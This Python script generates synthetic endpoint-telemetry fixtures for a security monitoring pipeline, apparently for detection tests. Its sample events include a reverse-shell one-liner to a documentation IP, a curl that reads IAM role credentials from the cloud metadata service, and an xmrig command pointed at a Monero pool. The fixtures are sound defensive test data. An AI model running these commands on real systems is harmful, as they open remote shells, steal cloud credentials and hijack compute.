"""Regenerate the recorded samples in events/ (run from the repo root: python -m events.generate).

The agent batches are what vigil-agent sends (vigil.wire, one host per batch, the ``host`` block
on the first event, ``seq`` monotonic per agent), written as plain NDJSON for reading and as
``.ndjson.gz`` exactly as they go into Kinesis. All addresses are documentation ranges (RFC 5737)
or loopback: data only, nothing is ever contacted.

Two hosts: ``web-1`` runs nginx and gets a reverse shell; ``worker-1`` resolves a Monero pool.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
from pathlib import Path

from vigil import wire as w

HERE = Path(__file__).resolve().parent
ACCOUNT = "123456789012"
REGION = "us-east-1"
T0 = 1_764_000_000_000_000_000  # 2025-11-24T16:00:00Z, epoch ns
SEC = 1_000_000_000

WEB = w.Host(
    instance_id="i-0a1b2c3d4e5f60001",
    account_id=ACCOUNT,
    region=REGION,
    hostname="ip-10-0-1-17.ec2.internal",
    boot_id="5f0c1d2e-0001-4a5b-8c9d-0e1f2a3b4c5d",
    agent_version="0.1.0",
    instance_type="t3.small",
    image_id="ami-0abcdef1234567890",
    availability_zone="us-east-1a",
    vcpus=2,
)
WORKER = w.Host(
    instance_id="i-0a1b2c3d4e5f60002",
    account_id=ACCOUNT,
    region=REGION,
    hostname="ip-10-0-2-41.ec2.internal",
    boot_id="5f0c1d2e-0002-4a5b-8c9d-0e1f2a3b4c5d",
    agent_version="0.1.0",
    instance_type="c6i.large",
    image_id="ami-0abcdef1234567890",
    availability_zone="us-east-1b",
    vcpus=2,
)


def _uuid(host: w.Host, pid: int, start: int) -> str:
    return hashlib.sha256(f"{host.boot_id}|{pid}|{start}".encode()).hexdigest()[:32]


def proc(
    host: w.Host,
    exe: str,
    argv: list[str],
    pid: int,
    *,
    parent: w.Process | None = None,
    uid: int = 1000,
    user: str = "ec2-user",
    cwd: str = "/home/ec2-user",
    start: int = T0,
    stdin: w.Stdio | None = None,
    stdout: w.Stdio | None = None,
    stderr: w.Stdio | None = None,
) -> w.Process:
    """A process as the agent sends it (OCSF Process), with its ancestors nearest first."""
    lineage = [] if parent is None else [_ancestor(parent), *parent.lineage][:8]
    name = exe.rsplit("/", 1)[-1]
    return w.Process(
        pid=pid,
        uid=_uuid(host, pid, start),
        name=name,
        cmd_line=" ".join(argv),
        args=argv,
        file=w.File(path=exe, name=name, sha256=hashlib.sha256(exe.encode()).hexdigest()),
        user=w.User(uid=uid, name=user),
        euid=uid,
        gid=uid,
        egid=uid,
        working_directory=cwd,
        created_time=start,
        stdin=stdin,
        stdout=stdout,
        stderr=stderr,
        ppid=parent.pid if parent else 0,
        parent_uid=parent.uid if parent else "",
        lineage=lineage,
    )


def _ancestor(p: w.Process) -> w.Process:
    """Ancestors carry no lineage of their own."""
    import msgspec

    return msgspec.structs.replace(p, lineage=[], stdin=None, stdout=None, stderr=None)


TTY = w.Stdio(type="tty", path="/dev/pts/0")
PIPE = w.Stdio(type="pipe")


def heartbeat(host: w.Host, t: int, seq: int, sent: int) -> w.Heartbeat:
    return w.Heartbeat(
        time=t,
        seq=seq,
        agent_version=host.agent_version,
        sensors_active=["audit", "proc_connector", "af_packet_dns", "fanotify"],
        counters=w.Counters(captured=sent, sent=sent),
        cpu_percent=0.4,
        rss_bytes=38 * 1024 * 1024,
        vcpus=host.vcpus,
        kernel="6.1.158-180.294.amzn2023.x86_64",
    )


def benign() -> list[w.WireEvent]:
    """web-1 on an ordinary afternoon: an admin logs in and looks around, nginx serves."""
    h = WEB
    systemd = proc(
        h, "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd"], 1, uid=0, user="root", cwd="/"
    )
    sshd = proc(
        h, "/usr/sbin/sshd", ["sshd: ec2-user [priv]"], 2101, parent=systemd, uid=0, user="root", cwd="/"
    )
    bash = proc(
        h, "/usr/bin/bash", ["-bash"], 2150, parent=sshd, stdin=TTY, stdout=TTY, stderr=TTY, start=T0 + SEC
    )
    nginx = proc(
        h, "/usr/sbin/nginx", ["nginx: worker process"], 880, parent=systemd, uid=992, user="nginx", cwd="/"
    )
    ev: list[w.WireEvent] = [heartbeat(h, T0, 1, 0)]
    t, seq = T0 + SEC, 1

    def nxt() -> tuple[int, int]:
        nonlocal t, seq
        t += SEC // 4
        seq += 1
        return t, seq

    for argv in (["ls", "-la"], ["cat", "/etc/os-release"], ["systemctl", "status", "nginx"], ["df", "-h"]):
        tt, s = nxt()
        exe = f"/usr/bin/{argv[0]}"
        child = proc(h, exe, argv, 2200 + s, parent=bash, stdin=TTY, stdout=TTY, stderr=TTY, start=tt)
        ev.append(w.ProcessExec(time=tt, seq=s, process=child))
        tt, s = nxt()
        ev.append(w.ProcessExit(time=tt, seq=s, process=child, exit_code=0))
    tt, s = nxt()
    ev.append(
        w.DnsQuery(
            time=tt,
            seq=s,
            hostname="s3.us-east-1.amazonaws.com",
            process=nginx,
            resolver_ip="169.254.169.253",
            rcode="NOERROR",
            answers=[w.DnsAnswer(type="A", rdata="198.51.100.20", ttl=5)],
        )
    )
    tt, s = nxt()
    ev.append(
        w.NetConnect(
            time=tt,
            seq=s,
            process=nginx,
            local_ip="10.0.1.17",
            local_port=41234,
            remote_ip="198.51.100.20",
            remote_port=443,
        )
    )
    tt, s = nxt()
    ev.append(
        w.NetAccept(
            time=tt,
            seq=s,
            process=nginx,
            local_ip="10.0.1.17",
            local_port=443,
            remote_ip="203.0.113.25",
            remote_port=52311,
        )
    )
    tt, s = nxt()
    ev.append(heartbeat(h, tt, s, s - 1))
    return _with_host(ev, h)


def reverse_shell() -> list[w.WireEvent]:
    """web-1: an exploited nginx worker spawns sh -c, which starts an interactive bash wired to
    a TCP socket to 198.51.100.7:4444 (the classic `bash -i >& /dev/tcp/...` one-liner)."""
    h = WEB
    systemd = proc(
        h, "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd"], 1, uid=0, user="root", cwd="/"
    )
    nginx = proc(
        h, "/usr/sbin/nginx", ["nginx: worker process"], 880, parent=systemd, uid=992, user="nginx", cwd="/"
    )
    t, seq = T0 + 60 * SEC, 100
    sh = proc(
        h,
        "/usr/bin/sh",
        ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
        31337,
        parent=nginx,
        uid=992,
        user="nginx",
        cwd="/",
        start=t,
        stdin=PIPE,
        stdout=PIPE,
        stderr=PIPE,
    )
    sock = w.Stdio(
        type="socket",
        family="inet",
        protocol="tcp",
        local=w.Endpoint(ip="10.0.1.17", port=49152),
        remote=w.Endpoint(ip="198.51.100.7", port=4444),
    )
    bash = proc(
        h,
        "/usr/bin/bash",
        ["bash", "-i"],
        31338,
        parent=sh,
        uid=992,
        user="nginx",
        cwd="/",
        start=t + SEC // 10,
        stdin=sock,
        stdout=sock,
        stderr=sock,
    )
    ev: list[w.WireEvent] = [
        w.ProcessExec(time=t, seq=seq, process=sh),
        w.NetConnect(
            time=t + SEC // 20,
            seq=seq + 1,
            process=sh,
            local_ip="10.0.1.17",
            local_port=49152,
            remote_ip="198.51.100.7",
            remote_port=4444,
        ),
        w.ProcessExec(time=t + SEC // 10, seq=seq + 2, process=bash),
    ]
    whoami = proc(
        h,
        "/usr/bin/id",
        ["id"],
        31340,
        parent=bash,
        uid=992,
        user="nginx",
        cwd="/",
        start=t + 2 * SEC,
        stdin=sock,
        stdout=sock,
        stderr=sock,
    )
    ev.append(w.ProcessExec(time=t + 2 * SEC, seq=seq + 3, process=whoami))
    ev.append(heartbeat(h, t + 5 * SEC, seq + 4, 20))
    return _with_host(ev, h)


def reverse_shell_next() -> list[w.WireEvent]:
    """web-1, half a minute later: the reverse shell's next step, a second ATT&CK tactic: it reads the
    instance role's credentials from the metadata service (IMDSv1), which forms an attack sequence."""
    h = WEB
    first = reverse_shell()
    bash = first[2].process  # type: ignore[union-attr]
    t, seq = T0 + 90 * SEC, 105
    curl = proc(
        h,
        "/usr/bin/curl",
        ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-1-role"],
        31350,
        parent=bash,
        uid=992,
        user="nginx",
        cwd="/",
        start=t,
        stdin=bash.stdin,
        stdout=bash.stdout,
        stderr=bash.stderr,
    )
    ev: list[w.WireEvent] = [
        w.ProcessExec(time=t, seq=seq, process=curl),
        w.NetConnect(
            time=t + SEC // 100,
            seq=seq + 1,
            process=curl,
            local_ip="10.0.1.17",
            local_port=49170,
            remote_ip="169.254.169.254",
            remote_port=80,
        ),
        heartbeat(h, t + 5 * SEC, seq + 2, 23),
    ]
    return _with_host(ev, h)


def crypto_dns() -> list[w.WireEvent]:
    """worker-1: a dropped xmrig in /tmp resolves a Monero pool and connects to it."""
    h = WORKER
    systemd = proc(
        h, "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd"], 1, uid=0, user="root", cwd="/"
    )
    cron = proc(
        h, "/usr/sbin/crond", ["/usr/sbin/crond", "-n"], 712, parent=systemd, uid=0, user="root", cwd="/"
    )
    t, seq = T0 + 90 * SEC, 1
    miner = proc(
        h,
        "/tmp/.x/xmrig",
        ["/tmp/.x/xmrig", "-o", "pool.supportxmr.com:443", "--tls"],
        4711,
        parent=cron,
        uid=1001,
        user="app",
        cwd="/tmp/.x",
        start=t,
    )
    ev: list[w.WireEvent] = [
        heartbeat(h, t - SEC, seq, 0),
        w.ProcessExec(time=t, seq=seq + 1, process=miner),
        w.DnsQuery(
            time=t + SEC // 5,
            seq=seq + 2,
            hostname="pool.supportxmr.com",
            process=miner,
            resolver_ip="169.254.169.253",
            rcode="NOERROR",
            answers=[w.DnsAnswer(type="A", rdata="198.51.100.50", ttl=60)],
        ),
        w.NetConnect(
            time=t + SEC // 4,
            seq=seq + 3,
            process=miner,
            local_ip="10.0.2.41",
            local_port=50522,
            remote_ip="198.51.100.50",
            remote_port=443,
        ),
    ]
    return _with_host(ev, h)


def _with_host(events: list[w.WireEvent], host: w.Host) -> list[w.WireEvent]:
    """The batch header: the first event carries the host block."""
    import msgspec

    return [msgspec.structs.replace(events[0], host=host), *events[1:]]


def malformed() -> bytes:
    """A batch with one good line, a truncated line and an unknown kind (for the dead-letter path)."""
    good = w.encode_event(reverse_shell()[0]).decode()
    lines = [good, good[: len(good) // 2], json.dumps({"v": 1, "kind": "teleport", "time": T0, "seq": 999})]
    return ("\n".join(lines) + "\n").encode()


def kinesis_event(batches: list[tuple[str, bytes]]) -> dict[str, object]:
    """A Lambda Kinesis event (what the event-source mapping delivers) for the handler tests."""
    stream = f"arn:aws:kinesis:{REGION}:{ACCOUNT}:stream/vigil-TelemetryStream"
    records = []
    for n, (key, data) in enumerate(batches, start=1):
        seq = f"4964{n:052d}"
        records.append(
            {
                "kinesis": {
                    "kinesisSchemaVersion": "1.0",
                    "partitionKey": key,
                    "sequenceNumber": seq,
                    "data": base64.b64encode(data).decode(),
                    "approximateArrivalTimestamp": 1764000100.123,
                },
                "eventSource": "aws:kinesis",
                "eventVersion": "1.0",
                "eventID": f"shardId-000000000000:{seq}",
                "eventName": "aws:kinesis:record",
                "invokeIdentityArn": f"arn:aws:iam::{ACCOUNT}:role/vigil-IngestFunctionRole",
                "awsRegion": REGION,
                "eventSourceARN": stream,
            }
        )
    return {"Records": records}


def main() -> None:
    agent = HERE / "agent"
    agent.mkdir(exist_ok=True)
    batches = {
        "benign": benign(),
        "reverse_shell": reverse_shell(),
        "crypto_dns": crypto_dns(),
        "reverse_shell_next": reverse_shell_next(),
    }
    gz: dict[str, bytes] = {}
    for name, events in batches.items():
        (agent / f"{name}.ndjson").write_bytes(w.encode_batch(events, compress=False))
        gz[name] = gzip.compress(w.encode_batch(events, compress=False), compresslevel=6, mtime=0)
        (agent / f"{name}.ndjson.gz").write_bytes(gz[name])
    (agent / "malformed.ndjson").write_bytes(malformed())
    ingest = HERE / "ingest_function"
    ingest.mkdir(exist_ok=True)
    keys = {"benign": WEB.instance_id, "reverse_shell": WEB.instance_id, "crypto_dns": WORKER.instance_id}
    event = kinesis_event([(keys[n], gz[n]) for n in ("benign", "reverse_shell", "crypto_dns")])
    (ingest / "kinesis_batches.json").write_text(json.dumps(event, indent=2) + "\n")
    poison = kinesis_event([(WEB.instance_id, malformed()), (WEB.instance_id, b"\x1f\x8bnot really gzip")])
    (ingest / "kinesis_malformed.json").write_text(json.dumps(poison, indent=2) + "\n")


if __name__ == "__main__":
    main()
